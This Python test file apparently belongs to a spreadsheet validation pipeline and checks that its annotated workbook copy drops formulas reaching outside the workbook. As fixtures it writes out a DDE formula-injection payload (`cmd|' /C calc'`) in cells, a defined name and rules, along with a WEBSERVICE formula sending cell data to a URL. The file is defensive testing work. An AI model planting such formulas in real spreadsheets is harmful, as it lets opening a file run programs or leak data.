"""The checked copy (`validate --annotate`) never holds a formula reaching outside the workbook.

It kept `=cmd|' /C calc'!A0` live, so opening the copy eqplan made could start a
program. Such a formula is now written as the value it stored, in every sheet; the
officer's ordinary formulas stay as they are.
"""

from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from pipeline.errors import WorkbookUnreadable
from pipeline.render.annotate import write_annotated
from pipeline.validate import validate_workbook
from tests.bad_inputs.catalogue import DDE, _both, _cached_formula, _rewrite, _set, as_excel_saves
from tests.bad_inputs.hostile_xml import replace_cell, then


def _helper_name(wb) -> None:
    wb.defined_names["Helper"] = DefinedName("Helper", attr_text="cmd|'/C calc'!A0")


def _checked_copy(tmp_path):
    edit = _both(
        _set("Actions", "D2", DDE),  # stored "Shared with managers." (_cached_formula)
        _set("Actions", "Z2", "=SUM(1,2)"),  # the officer's own formula, in a column not read
        _set("Owners", "Z9", DDE),  # on a sheet and in a cell eqplan does not read
        _helper_name,
    )
    path = as_excel_saves(_rewrite("sheet:Actions", _cached_formula, edit=edit))(tmp_path)
    validation = validate_workbook(path)
    assert [p.where for p in validation.report.errors] == ["Actions!D2", "Owners!Z9"]
    return write_annotated(validation.source, validation.report, tmp_path / "out")


def test_no_formula_reaching_outside_is_left_in_the_copy(tmp_path):
    copy = _checked_copy(tmp_path)
    with zipfile.ZipFile(copy) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            formulas = re.findall(r"<f[^>]*>([^<]*)</f>", text)
            assert not any("|" in f for f in formulas), (name, formulas)
            assert 'definedName name="Helper"' not in text, name


def test_it_holds_the_value_stored_and_keeps_ordinary_formulas(tmp_path):
    wb = openpyxl.load_workbook(_checked_copy(tmp_path))
    actions = wb["Actions"]
    assert actions["D2"].value == "Shared with managers." and actions["D2"].data_type == "s"
    assert "FORMULA_EXTERNAL" in actions["D2"].comment.text
    assert actions["Z2"].value == "=SUM(1,2)"  # kept: it reaches nothing outside
    assert wb["Owners"]["Z9"].value is None  # it stored nothing: nothing is written


def _filled_down(tmp_path, formula: bytes = b"cmd|' /C calc'!A0"):
    """A DDE formula filled down D2:E2 (shared: its text is in D2 only), each cell storing a
    value, as Excel saves it; openpyxl cannot translate it to E2 and failed to open it."""
    change = then(
        replace_cell(
            "D2",
            b'<c r="D2" t="str"><f t="shared" si="0" ref="D2:E2">'
            + formula
            + b"</f><v>one</v></c>",
        ),
        replace_cell("E2", b'<c r="E2" t="str"><f t="shared" si="0"/><v>two</v></c>'),
    )
    return as_excel_saves(_rewrite("sheet:Actions", change))(tmp_path)


def test_a_filled_down_formula_reaching_outside_is_its_stored_values_in_the_copy(tmp_path):
    validation = validate_workbook(_filled_down(tmp_path))
    assert [p.where for p in validation.report.errors] == ["Actions!D2", "Actions!E2"]
    copy = write_annotated(validation.source, validation.report, tmp_path / "out")
    actions = openpyxl.load_workbook(copy)["Actions"]
    assert (actions["D2"].value, actions["E2"].value) == ("one", "two")
    assert actions["D2"].data_type == "s" and actions["E2"].data_type == "s"


def test_a_copy_that_cannot_be_written_says_why_with_a_fix_and_a_code(tmp_path, monkeypatch):
    validation = validate_workbook(_filled_down(tmp_path))

    def refuse(*args, **kwargs):
        raise ValueError("Unexpected character at position 5")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    with pytest.raises(WorkbookUnreadable) as raised:
        write_annotated(validation.source, validation.report, tmp_path / "out")
    assert raised.value.code == "FILE_DAMAGED" and raised.value.hint
    assert "checked copy" in raised.value.message and "position 5" in raised.value.message


def _rules(wb) -> None:
    """Data validation and conditional formatting, each with an ordinary rule and one reaching
    outside the workbook (Excel works out both whenever the sheet is shown)."""
    actions = wb["Actions"]
    for formula in (DDE.removeprefix("="), 'LEN(WEBSERVICE("http://x/"&A2))>0', "LEN(A2)>0"):
        rule = DataValidation(type="custom", formula1=formula, sqref="Z2:Z9")
        actions.add_data_validation(rule)
    fill = PatternFill("solid", fgColor="FF0000")
    actions.conditional_formatting.add("Z2:Z9", FormulaRule(formula=[DDE[1:] + "=1"], fill=fill))
    actions.conditional_formatting.add("Y2:Y9", FormulaRule(formula=["Y2=1"], fill=fill))


def test_rules_reaching_outside_are_left_out_of_the_copy_and_the_others_kept(tmp_path):
    path = as_excel_saves(_rewrite("xl/workbook.xml", lambda data: data, edit=_rules))(tmp_path)
    validation = validate_workbook(path)
    copy = write_annotated(validation.source, validation.report, tmp_path / "out")
    actions = openpyxl.load_workbook(copy)["Actions"]
    kept = [rule.formula1 for rule in actions.data_validations.dataValidation]
    assert "LEN(A2)>0" in kept
    assert not [f for f in kept if "|" in (f or "") or "WEBSERVICE" in (f or "")]
    formatting = [f for cf in actions.conditional_formatting for r in cf.rules for f in r.formula]
    assert "Y2=1" in formatting and not [f for f in formatting if "|" in f]
